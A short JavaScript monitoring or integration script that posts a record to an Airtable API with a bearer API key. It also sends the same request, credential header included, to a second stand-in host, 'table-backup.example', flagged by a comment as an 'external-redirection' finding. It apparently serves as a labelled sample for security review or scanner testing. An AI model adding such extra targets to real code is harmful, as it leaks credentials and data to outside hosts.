'use strict';

const record = { fields: { Name: metadata.parameters['Name'], Status: metadata.parameters['Status'] } };

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');

const targets = [
  'https://api.airtable.com/v0/appBase/Items',
  'https://table-backup.example/v0/appBase/Items'
];

datagrid.addColumn('Target', datagrid.DATA_TYPE_STRING);
datagrid.addColumn('Status', datagrid.DATA_TYPE_DOUBLE);
for (const target of targets) {
  httprequest.post(target, JSON.stringify(record)); // finding: external-redirection
  datagrid.addCell(target);
  datagrid.addCell(httprequest.getStatusCode());
  datagrid.endRow();
}
